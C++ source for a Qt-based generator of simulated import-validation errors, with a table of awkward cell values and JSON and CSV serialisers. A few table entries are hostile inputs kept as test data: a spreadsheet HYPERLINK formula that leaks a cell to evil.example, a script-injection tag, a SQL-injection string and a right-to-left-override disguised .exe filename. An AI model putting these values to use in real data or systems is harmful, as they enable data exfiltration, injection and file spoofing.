#include "ErrorGenerator.h"

#include "Hash.h"

#include <algorithm>
#include <array>

using namespace Qt::StringLiterals;

namespace fw::sim {

namespace {

struct Awkward
{
    const char16_t *column;
    const char16_t *value;
    const char16_t *error;
};

// Fixed awkward values; index 0 and 1 of every run are the documented example's errors.
constexpr std::array<Awkward, 34> Table {{
    {u"name", u"O'Brien, \"Danny\"", u"Unbalanced quotes"},
    {u"name", u"Zoë Ångström-Ñúñez", u"Invalid characters"},
    {u"name", u"山田 太郎", u"Invalid characters"},
    {u"notes", u"Shipped 📦✅ — thanks!", u"Invalid characters"},
    {u"address", u"12 Main St\nApt 4", u"Unexpected line break in value"},
    {u"address", u"Flat 3\r\nHigh Street", u"Unexpected line break in value"},
    {u"notes", u"first\rsecond", u"Unexpected line break in value"},
    {u"notes", u"bell\x07ring", u"Control characters not allowed"},
    {u"notes", u"\x1b[31mred alert\x1b[0m", u"Control characters not allowed"},
    {u"comment", u"=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")", u"Formula not allowed"},
    {u"comment", u"=1+2", u"Formula not allowed"},
    {u"phone", u"+1 (555) 010-9999 ext. 12", u"Invalid phone number"},
    {u"balance_delta", u"-42", u"Expected positive number"},
    {u"handle", u"@everyone", u"Invalid characters"},
    {u"code", u"\tTAB-PREFIXED", u"Leading whitespace not allowed"},
    {u"name", u"שלום עולם", u"Invalid characters"},
    {u"name", u"مرحبا بالعالم 123", u"Invalid characters"},
    {u"filename", u"invoice\u202efdp.exe", u"Suspicious characters"},
    {u"city", u"São Paulo, \"SP\"", u"Unknown city"},
    {u"size", u"Größe: 10\" × 12\"", u"Invalid measurement"},
    {u"sku", u"", u"Required field is missing"},
    {u"email", u" ", u"Required field is missing"},
    {u"name", u"👩‍👩‍👧‍👦 family account", u"Invalid characters"},
    {u"notes", u"tab\tseparated\tvalues", u"Control characters not allowed"},
    {u"notes", u"trailing space ", u"Trailing whitespace not allowed"},
    {u"payload", u"{\"a\": [1, 2, \"x\"]}", u"Expected string"},
    {u"notes", u"<script>alert('x')</script>", u"Invalid characters"},
    {u"name", u"Robert'); DROP TABLE students;--", u"Invalid characters"},
    {u"country_code", u"ÅLAND", u"Unknown country code"},
    {u"zip", u"00501-", u"Invalid postal code"},
    {u"notes", u"mixed\r\n\rline\n\rends", u"Unexpected line break in value"},
    {u"name", u"-dash first", u"Invalid characters"},
    {u"quote", u"\"\"\"", u"Unbalanced quotes"},
    {u"notes", u"comma,separated,,values,", u"Invalid characters"},
}};

constexpr std::array<const char16_t *, 10> Names {u"john.doe", u"ana.maria", u"li.wei", u"müller",
                                                  u"o'connor", u"sam",       u"yuki",   u"élodie",
                                                  u"raj",      u"zoë"};

QString fromTable(const char16_t *text)
{
    return QString::fromUtf16(text);
}

} // namespace

ErrorGenerator::ErrorGenerator(quint64 seed, const QString &runId, qint64 count, qint64 rowSpan)
    : m_runHash(Hash::combine(seed, Hash::of(runId)))
    , m_count(std::max<qint64>(0, count))
    , m_span(rowSpan)
{
    if (m_count >= 2 && m_span >= 400 + m_count)
        m_stride = std::max<qint64>(1, (m_span - 305) / m_count);
}

qint64 ErrorGenerator::rowAt(qint64 index) const
{
    if (m_stride == 0)
        return index + 1;
    if (index == 0)
        return 142;
    if (index == 1)
        return 305;
    return 305 + (index - 1) * m_stride
        + qint64(Hash::combine(m_runHash, quint64(index)) % quint64(m_stride));
}

qint64 ErrorGenerator::countUpToRow(qint64 row) const
{
    qint64 lo = 0;
    qint64 hi = m_count; // first index whose row > row
    while (lo < hi) {
        const qint64 mid = lo + (hi - lo) / 2;
        if (rowAt(mid) <= row)
            lo = mid + 1;
        else
            hi = mid;
    }
    return lo;
}

QString ErrorGenerator::longValue(quint64 h)
{
    static const QString unit = u"Lorem ipsum, \"dolor\" sit amet — élan 漢字 🚀\n"_s;
    const qsizetype length = 10 * 1024 + qsizetype(h % (90 * 1024));
    QString value;
    value.reserve(length + unit.size());
    while (value.size() < length)
        value += unit;
    value.truncate(length);
    if (value.back().isHighSurrogate())
        value.chop(1);
    return value;
}

GeneratedError ErrorGenerator::parametric(quint64 h) const
{
    const QString name = fromTable(Names[(h >> 8) % Names.size()]);
    const auto n = qint64((h >> 16) % 10000);
    const QString number = QString::number(n);
    switch ((h >> 4) % 4) {
    case 0: {
        static const std::array<QString, 4> forms {u"%1%2@example"_s, u"%1.%2@@example.com"_s,
                                                   u"%1 %2@example.com"_s, u"%1,%2@example.com"_s};
        return {0, u"email"_s, forms[(h >> 40) % forms.size()].arg(name, number),
                u"Invalid email format"_s};
    }
    case 1: {
        static const std::array<QString, 6> ages {u"abc"_s,  u"twelve"_s, u"٣٤"_s,
                                                  u"12.5"_s, u"-%1"_s,    u"1%1000"_s};
        QString v = ages[(h >> 40) % ages.size()];
        if (v.contains(u"%1"_s))
            v = v.arg(number);
        return {0, u"age"_s, v, u"Expected integer"_s};
    }
    case 2: {
        static const std::array<QString, 7> dates {
            u"2023-02-30"_s, u"1899-12-31"_s, u"31/12/2023"_s, u"0000-00-00"_s,
            u"2024-13-01"_s, u"9999-99-99"_s, u"yesterday"_s};
        return {0, u"signup_date"_s, dates[(h >> 40) % dates.size()], u"Date out of range"_s};
    }
    default: {
        static const std::array<QString, 7> amounts {
            u"1,234.56"_s, u"€12,50"_s, u"-0"_s, u"1e309"_s, u"12.345,67"_s, u"$ 100"_s, u"NaN"_s};
        return {0, u"amount"_s, amounts[(h >> 40) % amounts.size()], u"Expected decimal number"_s};
    }
    }
}

GeneratedError ErrorGenerator::at(qint64 index) const
{
    GeneratedError e;
    const quint64 h = Hash::combine(m_runHash ^ 0xE770ULL, quint64(index));
    if (index == 0) {
        e = {0, u"email"_s, u"not-an-email"_s, u"Invalid email format"_s};
    } else if (index == 1) {
        e = {0, u"age"_s, u"abc"_s, u"Expected integer"_s};
    } else if (index % 50000 == 777 || index % 50000 == 1999) {
        e = {0, u"description"_s, longValue(h), u"Value too long (max 255)"_s};
    } else if (h % 64 < 36) {
        e = parametric(h);
    } else {
        const Awkward &a = Table[(h >> 24) % Table.size()];
        e = {0, fromTable(a.column), fromTable(a.value), fromTable(a.error)};
    }
    e.row = rowAt(index);
    return e;
}

QByteArray ErrorGenerator::jsonString(const QString &text)
{
    static const char hex[] = "0123456789abcdef";
    const QByteArray utf8 = text.toUtf8();
    QByteArray out;
    out.reserve(utf8.size() + 2);
    out += '"';
    for (const char c : utf8) {
        const auto u = static_cast<unsigned char>(c);
        if (c == '"' || c == '\\') {
            out += '\\';
            out += c;
        } else if (c == '\n') {
            out += "\\n";
        } else if (c == '\r') {
            out += "\\r";
        } else if (c == '\t') {
            out += "\\t";
        } else if (u < 0x20 || u == 0x7f) {
            out += "\\u00";
            out += hex[u >> 4];
            out += hex[u & 0xf];
        } else {
            out += c;
        }
    }
    out += '"';
    return out;
}

QByteArray ErrorGenerator::toJson(const GeneratedError &error)
{
    return R"({"row":)"_ba + QByteArray::number(error.row) + R"(,"column":)"_ba
        + jsonString(error.column) + R"(,"value":)"_ba + jsonString(error.value) + R"(,"error":)"_ba
        + jsonString(error.error) + '}';
}

QByteArray ErrorGenerator::csvField(const QString &text)
{
    QByteArray utf8 = text.toUtf8();
    const bool quote
        = utf8.contains(',') || utf8.contains('"') || utf8.contains('\r') || utf8.contains('\n');
    if (!quote)
        return utf8;
    utf8.replace("\"", "\"\"");
    return '"' + utf8 + '"';
}

QByteArray ErrorGenerator::toCsvRecord(const GeneratedError &error)
{
    return QByteArray::number(error.row) + ',' + csvField(error.column) + ','
        + csvField(error.value) + ',' + csvField(error.error) + "\r\n"_ba;
}

} // namespace fw::sim
